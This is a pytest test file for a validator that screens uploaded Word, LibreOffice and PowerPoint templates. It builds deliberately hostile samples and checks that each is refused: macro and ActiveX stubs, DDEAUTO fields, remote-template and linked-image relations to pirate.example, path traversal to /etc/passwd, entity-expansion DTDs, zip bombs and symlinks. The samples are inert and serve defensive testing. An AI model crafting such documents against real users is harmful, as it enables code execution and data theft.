"""A model is inspected: what is hostile is refused with its reason, what a town hall really writes is accepted."""

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from convive.documents.modeles import MODELES_DIR
from convive.documents.rules import archive
from convive.documents.rules.archive import ModeleRefuse
from convive.documents.rules.inspection import inspect_modele
from tests.documents.mairie import build_docx_mairie, build_odt_mairie, build_pptx_mairie, rewrite

DOCX, ODT, PPTX = build_docx_mairie(), build_odt_mairie(), build_pptx_mairie()
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def add_relation(
    nom: str, genre: str, cible: str, mode: str = ' TargetMode="External"'
) -> Callable[[str, bytes], bytes]:
    """A change that adds a relation to a part of an office file."""

    def change(part: str, donnees: bytes) -> bytes:
        if part != nom:
            return donnees
        relation = f'<Relationship Id="rId999" Type="{RELS}/{genre}" Target="{cible}"{mode}/></Relationships>'
        return donnees.replace(b"</Relationships>", relation.encode())

    return change


def replace(nom: str, avant: str, apres: str) -> Callable[[str, bytes], bytes]:
    def change(part: str, donnees: bytes) -> bytes:
        if part != nom:
            return donnees
        assert avant.encode() in donnees, f"{avant} n’est pas dans {nom}"
        return donnees.replace(avant.encode(), apres.encode(), 1)

    return change


DOCUMENT_RELS, PIED = "word/_rels/document.xml.rels", "word/footer1.xml"
CHAMP = "<w:r><w:instrText>{}</w:instrText></w:r></w:p></w:ftr>"
FIN_PIED = "</w:p></w:ftr>"
OFFICE_SCRIPTS = "<office:scripts><office:script/></office:scripts>"
FIN_STYLES = "</office:document-styles>"
DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
HOSTILES = {
    "macro": ("m.docx", lambda: rewrite(DOCX, ajouts={"word/vbaProject.bin": b"x"}), "macros"),
    "extension docm": ("m.docm", lambda: DOCX, "Word avec macros"),
    "type avec macros": (
        "m.docx",
        lambda: rewrite(
            DOCX,
            replace(
                "[Content_Types].xml",
                "openxmlformats-officedocument.wordprocessingml.document.main",
                "ms-word.document.macroEnabled.main",
            ),
        ),
        "macros",
    ),
    "activex": ("m.docx", lambda: rewrite(DOCX, ajouts={"word/activeX/activeX1.xml": b"<a/>"}), "ActiveX"),
    "ole": ("m.docx", lambda: rewrite(DOCX, ajouts={"word/embeddings/oleObject1.bin": b"x"}), "objet incorporé"),
    "relation ole": ("m.docx", lambda: rewrite(DOCX, add_relation(DOCUMENT_RELS, "oleObject", "x.xml", "")), "objet"),
    "complément": ("m.docx", lambda: rewrite(DOCX, ajouts={"word/webextensions/a.xml": b"<a/>"}), "complément"),
    "programme": ("m.docx", lambda: rewrite(DOCX, ajouts={"word/media/a.exe": b"MZ"}), "programme"),
    "altchunk": ("m.docx", lambda: rewrite(DOCX, add_relation(DOCUMENT_RELS, "aFChunk", "a.xml", "")), "incorporé"),
    "modèle attaché": (
        "m.docx",
        lambda: rewrite(DOCX, add_relation(DOCUMENT_RELS, "attachedTemplate", "https://pirate.example/m.dotm")),
        "attaché à un modèle",
    ),
    "image liée": (
        "m.docx",
        lambda: rewrite(DOCX, add_relation(DOCUMENT_RELS, "image", "https://pirate.example/i.png")),
        "va chercher quelque chose ailleurs",
    ),
    "partage réseau": (
        "m.docx",
        lambda: rewrite(DOCX, add_relation(DOCUMENT_RELS, "image", "\\\\\\\\serveur\\\\x.png", "")),
        "hors de lui-même",
    ),
    "lien vers un fichier": (
        "m.docx",
        lambda: rewrite(DOCX, add_relation(DOCUMENT_RELS, "hyperlink", "file:///c:/windows/x.exe")),
        "lien vers un fichier",
    ),
    "relation qui remonte": (
        "m.docx",
        lambda: rewrite(DOCX, add_relation(DOCUMENT_RELS, "image", "../../etc/passwd", "")),
        "hors de lui-même",
    ),
    "champ dde": ("m.docx", lambda: rewrite(DOCX, replace(PIED, FIN_PIED, CHAMP.format(" DDEAUTO c:\\x "))), "DDEAUTO"),
    "champ dde en deux": (
        "m.docx",
        lambda: rewrite(DOCX, replace(PIED, FIN_PIED, CHAMP.format(" DD</w:instrText></w:r><w:r><w:instrText>E cmd "))),
        "DDE",
    ),
    "champ simple": (
        "m.docx",
        lambda: rewrite(DOCX, replace(PIED, FIN_PIED, '<w:fldSimple w:instr=" INCLUDETEXT x "/></w:p></w:ftr>')),
        "INCLUDETEXT",
    ),
    "entités": ("m.docx", lambda: rewrite(DOCX, ajouts={"word/item.xml": DTD.encode()}), "DTD"),
    "entités en utf-16": (
        "m.docx",
        lambda: rewrite(DOCX, ajouts={"word/item.xml": DTD.replace("?>", ' encoding="utf-16"?>').encode("utf-16")}),
        "DTD",
    ),
    "xml abîmé": ("m.docx", lambda: rewrite(DOCX, ajouts={"word/item.xml": b"<a>"}), "illisible"),
    "xml profond": (
        "m.docx",
        lambda: rewrite(DOCX, ajouts={"word/item.xml": b"<a>" * 300 + b"</a>" * 300}),
        "démesuré",
    ),
    "svg": ("m.docx", lambda: rewrite(DOCX, ajouts={"word/media/a.svg": b"<svg><script/></svg>"}), "programme"),
    "svg lié": (
        "m.docx",
        lambda: rewrite(DOCX, ajouts={"word/media/a.svg": b'<svg><image href="https://pirate.example/i"/></svg>'}),
        "ailleurs",
    ),
    "macro de diapositive": (
        "m.pptx",
        lambda: rewrite(PPTX, ajouts={"ppt/a.xml": b'<a><hlinkClick action="ppaction://macro?name=x"/></a>'}),
        "lance une macro",
    ),
    "macro libreoffice": ("m.odt", lambda: rewrite(ODT, ajouts={"Basic/Standard/m.xml": b"<a/>"}), "macros"),
    "script libreoffice": (
        "m.odt",
        lambda: rewrite(ODT, replace("styles.xml", FIN_STYLES, f"{OFFICE_SCRIPTS}{FIN_STYLES}")),
        "macro",
    ),
    "objet libreoffice": ("m.odt", lambda: rewrite(ODT, ajouts={"Object 1/content.xml": b"<a/>"}), "objet incorporé"),
    "image liée libreoffice": (
        "m.odt",
        lambda: rewrite(ODT, replace("styles.xml", '"Pictures/logo.png"', '"https://pirate.example/l.png"')),
        "ailleurs",
    ),
    "image qui remonte": (
        "m.odt",
        lambda: rewrite(ODT, replace("styles.xml", '"Pictures/logo.png"', '"../../../etc/passwd"')),
        "hors de lui-même",
    ),
    "programme libreoffice": ("m.odt", lambda: rewrite(ODT, ajouts={"Scripts2/a.py": b"x"}), "programme"),
    "odt chiffré": (
        "m.odt",
        lambda: rewrite(
            ODT,
            replace("META-INF/manifest.xml", "</manifest:manifest>", "<manifest:encryption-data/></manifest:manifest>"),
        ),
        "mot de passe",
    ),
    "mot de passe": ("m.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "mot de passe"),
    "pas un document": ("m.docx", lambda: b"Bonjour", "pas un fichier Word"),
    "zip quelconque": (
        "m.docx",
        lambda: rewrite(DOCX, lambda _nom, d: d.replace(b"main+xml", b"autre+xml")),
        "ni un texte",
    ),
    "tableur": (
        "m.odt",
        lambda: rewrite(ODT, lambda n, d: b"application/vnd.oasis.opendocument.spreadsheet" if n == "mimetype" else d),
        "pas un texte",
    ),
    "mauvaise extension": ("m.odt", lambda: DOCX, r"« \.odt » mais c’est un fichier Word"),
    "extension inconnue": ("m.txt", lambda: DOCX, "Un modèle est un fichier Word"),
    "pdf": ("m.pdf", lambda: b"%PDF", "n’a pas de styles"),
    "chemin qui remonte": ("m.docx", lambda: rewrite(DOCX, ajouts={"../x.xml": b"<a/>"}), "chemin piégé"),
    "chemin absolu": ("m.docx", lambda: rewrite(DOCX, ajouts={"/etc/x.xml": b"<a/>"}), "chemin piégé"),
    "bombe": ("m.docx", lambda: rewrite(DOCX, ajouts={"word/media/a.png": bytes(20_000_000)}), "bombe"),
    "bombe de masse": (
        "m.docx",
        lambda: rewrite(DOCX, ajouts={f"word/media/{r}.png": bytes(9_000_000) for r in range(9)}),
        "bombe",
    ),
    "trop d’éléments": (
        "m.docx",
        lambda: rewrite(DOCX, ajouts={f"word/media/{r}.png": b"" for r in range(2_001)}),
        "éléments",
    ),
    "deux fois": ("m.docx", lambda: rewrite(DOCX, ajouts={"Word/Document.xml": b"<a/>"}), "deux fois"),
    "trop lourd": ("m.docx", lambda: DOCX + bytes(archive.MAX_OCTETS), "trop lourd"),
    "coupé": ("m.docx", lambda: DOCX[:20_000], "abîmé"),
}


@pytest.mark.parametrize("cas", sorted(HOSTILES))
def test_hostile_model_is_refused_with_its_reason(cas: str) -> None:
    nom, build, raison = HOSTILES[cas]
    with pytest.raises(ModeleRefuse, match=raison):
        inspect_modele(build(), nom)


def test_symbolic_link_is_refused() -> None:
    tampon = BytesIO(DOCX)
    lien = zipfile.ZipInfo("word/media/lien.png")
    lien.external_attr = 0o120777 << 16
    with zipfile.ZipFile(tampon, "a") as cible:
        cible.writestr(lien, "/etc/passwd")
    with pytest.raises(ModeleRefuse, match="lien vers un autre fichier"):
        inspect_modele(tampon.getvalue(), "m.docx")


def test_entry_said_to_be_encrypted_is_refused() -> None:
    # The flag of the first entry, in its own header and in the directory at the end.
    contenu = bytearray(DOCX)
    fin = contenu.rindex(b"PK\x05\x06")
    repertoire = struct.unpack("<I", contenu[fin + 16 : fin + 20])[0]
    for place in (6, repertoire + 8):
        contenu[place] |= 1
    with pytest.raises(ModeleRefuse, match="mot de passe"):
        inspect_modele(bytes(contenu), "m.docx")


def test_header_that_lies_about_its_size_is_refused() -> None:
    contenu = bytearray(rewrite(DOCX, ajouts={"word/media/a.png": bytes(20_000_000)}))
    fin = contenu.rindex(b"PK\x05\x06")
    place = contenu.rindex(b"word/media/a.png", 0, fin) - 46
    contenu[place + 24 : place + 28] = struct.pack("<I", 100)
    with pytest.raises(ModeleRefuse, match=r"bombe|abîmé"):
        inspect_modele(bytes(contenu), "m.docx")


@pytest.mark.parametrize(("nom", "contenu"), [("m.docx", DOCX), ("M.ODT", ODT), ("m.pptx", PPTX)])
def test_letterhead_of_a_town_hall_is_accepted(nom: str, contenu: bytes) -> None:
    inspection = inspect_modele(contenu, nom)
    assert inspection.format == nom.lower().split(".")[1]
    assert inspection.liens == ()


@pytest.mark.parametrize("format", ["docx", "odt", "pptx"])
def test_our_own_models_are_accepted(format: str) -> None:
    contenu = (MODELES_DIR / f"reference.{format}").read_bytes()
    assert inspect_modele(contenu, f"m.{format}").format == format


def test_links_on_which_one_clicks_are_told_and_admitted() -> None:
    change = add_relation(DOCUMENT_RELS, "hyperlink", "mailto:mairie@exemple.fr")
    assert inspect_modele(rewrite(DOCX, change), "m.docx").liens == ("mailto:mairie@exemple.fr",)
    lien = '<text:p><text:a xlink:href="https://exemple.fr/">site</text:a></text:p></style:footer>'
    odt = rewrite(ODT, replace("styles.xml", "</style:footer>", lien))
    assert inspect_modele(odt, "m.odt").liens == ("https://exemple.fr/",)


def test_template_from_which_the_file_was_made_is_only_a_memory() -> None:
    memoire = (
        '<meta:template xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xlink:href="file:///c:/m.ott"/>'
    )
    meta = (
        '<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        f' xmlns:xlink="http://www.w3.org/1999/xlink">{memoire}</office:document-meta>'
    )
    odt = rewrite(ODT, lambda nom, donnees: meta.encode() if nom == "meta.xml" else donnees)
    assert inspect_modele(odt, "m.odt").format == "odt"
    recharge = meta.replace("meta:template", "meta:auto-reload").encode()
    with pytest.raises(ModeleRefuse, match="se remplace tout seul"):
        inspect_modele(rewrite(ODT, lambda nom, donnees: recharge if nom == "meta.xml" else donnees), "m.odt")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.data_too_large])
@given(st.data())
def test_damaged_file_is_refused_or_read_and_never_breaks(data: st.DataObject) -> None:
    contenu = bytearray(data.draw(st.sampled_from([DOCX, ODT, PPTX])))
    for _ in range(data.draw(st.integers(1, 20))):
        contenu[data.draw(st.integers(0, len(contenu) - 1))] = data.draw(st.integers(0, 255))
    for nom in ("m.docx", "m.odt", "m.pptx"):
        try:
            inspect_modele(bytes(contenu), nom)
        except ModeleRefuse:
            continue
